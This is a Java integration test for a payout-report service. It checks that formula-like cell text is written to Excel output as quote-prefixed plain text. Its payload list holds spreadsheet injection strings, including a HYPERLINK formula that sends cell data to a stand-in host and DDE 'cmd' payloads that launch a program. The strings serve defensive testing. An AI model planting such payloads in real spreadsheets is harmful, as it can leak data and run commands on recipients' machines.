package ir.tasvieh.report;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import ir.tasvieh.run.RunRequest;
import ir.tasvieh.run.RunResult;
import ir.tasvieh.run.Runs;
import ir.tasvieh.sheet.HostileFiles;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * No text from a sheet becomes a formula in the result workbook: cells and headers that
 * start with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return are
 * written as text, exactly as they came, and quote-prefixed so that Excel keeps them text
 * even when the cell is edited.
 */
@SpringBootTest
class FormulaInjectionIntegrationTests {

	static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
			"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\r\n=2");

	@Autowired
	Runs runs;

	@TempDir
	Path dir;

	@Test
	void writesFormulaLookingCellsAndHeadersAsTextExactlyAsTheyCame() throws IOException {
		Path sheet = this.dir.resolve("injection.xlsx");
		String tag = UUID.randomUUID().toString();
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			Sheet payouts = workbook.createSheet("Payouts");
			row(payouts.createRow(0), "name", "sheba", "amount", "description", "=cmd|' /C calc'!A0", tag);
			for (int i = 0; i < PAYLOADS.size(); i++) {
				String payload = PAYLOADS.get(i);
				row(payouts.createRow(i + 1), payload, HostileFiles.SHEBA, Integer.toString(1_000_000 + i), payload,
						payload, payload);
			}
			try (OutputStream out = Files.newOutputStream(sheet)) {
				workbook.write(out);
			}
		}
		RunResult result = this.runs
			.start(new RunRequest(sheet, "injection.xlsx", null, true, false, this.dir.resolve("out"), "tester", null));
		assertThat(result.rejected()).isFalse();

		try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(result.resultPath()))) {
			Sheet written = workbook.getSheetAt(0);
			Cell header = written.getRow(0).getCell(4);
			assertThat(header.getCellType()).isEqualTo(CellType.STRING);
			assertThat(header.getStringCellValue()).isEqualTo("=cmd|' /C calc'!A0");
			assertThat(header.getCellStyle().getQuotePrefixed()).isTrue();
			for (int i = 0; i < PAYLOADS.size(); i++) {
				Row row = written.getRow(i + 1);
				for (int column : new int[] { 0, 3, 4, 5 }) {
					Cell cell = row.getCell(column);
					assertThat(cell.getCellType()).as("row %d column %d", i + 1, column).isEqualTo(CellType.STRING);
					assertThat(cell.getStringCellValue()).isEqualTo(PAYLOADS.get(i));
					assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
				}
			}
		}
		assertThat(sheetXml(result.resultPath())).doesNotContain("<f>").doesNotContain("<f ");
	}

	@Test
	void quotePrefixesEveryTextThatExcelCouldTakeForAFormulaAndNothingElse() {
		for (String payload : PAYLOADS) {
			assertThat(WorkbookStyles.looksLikeFormula(payload)).as(payload).isTrue();
		}
		assertThat(WorkbookStyles.looksLikeFormula("Ali Rezaei")).isFalse();
		assertThat(WorkbookStyles.looksLikeFormula("IR820540102680020817909002")).isFalse();
		assertThat(WorkbookStyles.looksLikeFormula("")).isFalse();
	}

	private static void row(Row row, String... values) {
		for (int i = 0; i < values.length; i++) {
			row.createCell(i).setCellValue(values[i]);
		}
	}

	private static String sheetXml(Path workbook) throws IOException {
		StringBuilder xml = new StringBuilder();
		try (ZipFile zip = new ZipFile(workbook.toFile())) {
			for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
				if (entry.getName().startsWith("xl/worksheets/")) {
					try (InputStream in = zip.getInputStream(entry)) {
						xml.append(new String(in.readAllBytes(), StandardCharsets.UTF_8));
					}
				}
			}
		}
		return xml.toString();
	}

}
